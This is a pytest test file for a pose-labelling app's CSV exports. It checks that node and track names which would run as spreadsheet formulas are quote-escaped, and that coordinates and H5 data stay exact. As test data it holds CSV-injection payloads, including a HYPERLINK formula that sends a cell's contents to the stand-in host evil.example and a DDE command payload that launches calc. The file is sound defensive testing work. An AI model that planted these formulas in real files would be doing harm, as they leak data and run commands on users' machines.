"""Names in exported CSVs cannot run as spreadsheet formulas; numbers and H5 stay exact.

A node called ``=HYPERLINK(...)`` or a track called ``+cmd`` would run as a formula
when the CSV is opened in Excel / LibreOffice; every CSV the app writes prefixes such
cells with a quote (OWASP), and PoseForge reads its own CSVs back to the same names.
"""

from __future__ import annotations

import csv

import numpy as np
import pandas as pd
import pytest

from backend.common.csvsafe import escape_cell, unescape_cell
from backend.interchange.services import project_export, project_import
from backend.labels.models import LabeledFrame
from backend.labels.services import labels_save
from backend.projects.services import skeleton_update
from tests.backend.interchange.helpers import unzip

pytestmark = pytest.mark.django_db

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
NODES = [LINK, "@SUM(1+1)", "snout"]


@pytest.mark.parametrize(
    ("cell", "escaped"),
    [("=1+2", "'=1+2"), ("+cmd", "'+cmd"), ("-cmd|' /C calc'!A0", "'-cmd|' /C calc'!A0"),
     ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"), ("snout", "snout"),
     ("-1.5", "-1.5"), ("+3", "+3"), ("1e-3", "1e-3"), ("", ""), (2.5, 2.5), (-7.0, -7.0)],
)  # fmt: skip
def test_formula_cells_get_a_quote_and_numbers_do_not(cell, escaped):
    assert escape_cell(cell) == escaped
    assert unescape_cell(escape_cell(cell)) == cell


def _labeled(project, video, alice, tracks: list[str | None]) -> None:
    skeleton_update(project=project, data={"nodes": [{"name": n} for n in NODES],
                                           "edges": [[LINK, "snout"]]}, confirm=True)  # fmt: skip
    ids = list(project.nodes.values_list("id", flat=True))
    instances = [
        {"track": track, "points": [{"node": ids[0], "x": 10.5 + k, "y": 20.25, "visibility": 2},
                                    {"node": ids[2], "x": 30.0, "y": 0.125, "visibility": 2}]}
        for k, track in enumerate(tracks)
    ]  # fmt: skip
    labels_save(video=video, frame_index=4, user=alice, version=0, instances=instances)
    LabeledFrame.objects.filter(video=video).update(status=LabeledFrame.Status.APPROVED)


def _rows(path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def test_dlc_csv_escapes_node_and_track_names_h5_keeps_them(project, video, alice, tmp_path):
    _labeled(project, video, alice, tracks=["+cmd", "mouse2"])
    root = unzip(project_export(project=project, format="dlc", dest=tmp_path), tmp_path / "o")
    (table,) = root.glob("labeled-data/*/CollectedData_*.csv")
    rows = _rows(table)
    individuals, bodyparts = rows[1][1:], rows[2][1:]
    assert "'+cmd" in individuals and "+cmd" not in individuals
    assert "'" + LINK in bodyparts and "'@SUM(1+1)" in bodyparts and "snout" in bodyparts
    assert LINK not in bodyparts
    values = [c for row in rows[4:] for c in row[1:] if c]
    assert values and all(not c.startswith("'") for c in values)  # coordinates untouched
    assert "10.5" in values and "11.5" in values
    h5 = pd.read_hdf(table.with_suffix(".h5"), "df_with_missing")
    assert set(h5.columns.get_level_values("individuals")) == {"+cmd", "mouse2"}
    assert list(dict.fromkeys(h5.columns.get_level_values("bodyparts"))) == NODES
    again = project_import(path=root, owner=alice, name="again")  # reads the CSV
    assert [n.name for n in again.nodes.all()] == NODES
    frame = LabeledFrame.objects.get(video__project=again)
    assert set(frame.instances.values_list("track", flat=True)) == {"+cmd", "mouse2"}


def test_lightning_pose_csv_escapes_node_names(project, video, alice, tmp_path):
    _labeled(project, video, alice, tracks=[None])
    out = unzip(project_export(project=project, format="lightning_pose", dest=tmp_path),
                tmp_path / "o")  # fmt: skip
    rows = _rows(out / "CollectedData.csv")
    assert rows[1][1:] == ["'" + LINK, "'" + LINK, "'@SUM(1+1)", "'@SUM(1+1)", "snout", "snout"]
    table = pd.read_csv(out / "CollectedData.csv", header=[0, 1, 2], index_col=0)
    x = table.to_numpy(float)[0]
    np.testing.assert_allclose(x[[0, 1, 4, 5]], [10.5, 20.25, 30.0, 0.125])
